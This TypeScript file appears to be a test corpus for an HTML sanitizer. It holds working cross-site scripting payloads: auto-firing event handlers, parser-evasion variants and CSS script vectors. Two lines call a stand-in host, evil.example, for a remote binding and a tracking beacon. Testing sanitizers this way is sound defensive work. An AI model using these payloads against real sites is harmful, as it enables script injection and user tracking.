const events = [
  ...["abort", "animationend", "animationstart", "auxclick", "beforecopy", "beforeinput", "beforetoggle", "blur"],
  ...["change", "click", "close", "contextmenu", "copy", "dblclick", "drag", "dragenter", "drop", "focus", "focusin"],
  ...["fullscreenchange", "gotpointercapture", "hashchange", "input", "invalid", "keydown", "load", "message"],
  ...["mousedown", "mouseenter", "mousemove", "mouseover", "mousewheel", "pageshow", "paste", "pointerdown"],
  ...["pointerenter", "pointerover", "pointerrawupdate", "popstate", "reset", "resize", "scroll", "scrollend"],
  ...["search", "selectionchange", "selectstart", "submit", "toggle", "touchstart", "transitionend", "unload", "wheel"],
];

/** Nothing of these needs more than to be there; what they wait for differs. */
const waiting = events.map((event, index) => {
  const tag = ["div", "a", "details", "input", "body", "xss", "p", "span"][index % 8] ?? "b";
  return `<${tag} on${event}=hit() tabindex=0 style=animation:x>Ahoy</${tag}>`;
});

/** Handlers that fire by themselves, and handlers that are hard to see. */
export const handlers: readonly string[] = [
  ...waiting,
  "<details open ontoggle=hit()>Ahoy</details>",
  "<input autofocus onfocus=hit()>",
  "<select autofocus onfocus=hit()>",
  "<textarea autofocus onfocus=hit()>",
  "<button autofocus onfocus=hit()>Ahoy</button>",
  "<a autofocus tabindex=1 onfocus=hit() href=#>Ahoy</a>",
  "<body onload=hit()>",
  "<body onpageshow=hit()>",
  "<html onmouseover=hit()>",
  "<p OnClIcK=hit()>Ahoy</p>",
  "<p onclick\n=\nhit()>Ahoy</p>",
  "<p onclick\u000c=hit()>Ahoy</p>",
  "<p/onclick=hit()>Ahoy</p>",
  '<p title="x"onclick="hit()">Ahoy</p>',
  "<p title='>' onclick=hit()>Ahoy</p>",
  "<p onclick=hit() onclick=x>Ahoy</p>",
  "<p x=`y` onclick=hit()>Ahoy</p>",
  '<p style="background:url(javascript:hit())">Ahoy</p>',
  '<p style="width:expression(hit())">Ahoy</p>',
  '<p style="-moz-binding:url(https://evil.example/a.xml#x)">Ahoy</p>',
  '<p style="position:fixed;inset:0;z-index:9999;background:red">Ahoy</p>',
  '<p style="background-image:url(https://evil.example/seen)">Ahoy</p>',
];
